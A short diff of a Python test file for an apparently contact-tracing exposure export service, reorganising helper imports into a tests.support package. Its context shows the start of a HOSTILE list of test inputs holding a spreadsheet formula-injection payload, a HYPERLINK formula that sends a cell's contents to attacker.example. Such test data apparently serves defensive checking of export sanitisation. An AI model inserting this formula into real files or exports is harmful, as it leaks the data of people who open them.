@@ -15,10 +15,11 @@ from stopcovid.exposure.v1 import exposure_service_pb2 as pb
 
 import clients
 from services.exposure import export
-from tests.accountability_helpers import keystore, seed_trace
-from tests.checkin_helpers import create_venue, enroll
-from tests.conftest import Query, Servers
-from tests.exposure_helpers import REGISTRAR, exposure
+from tests.support.accountability_helpers import keystore, seed_trace
+from tests.support.checkin_helpers import create_venue, enroll
+from tests.support.database import Query
+from tests.support.exposure_helpers import REGISTRAR, exposure
+from tests.support.servers import Servers
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?"&A1,"Open the report")',
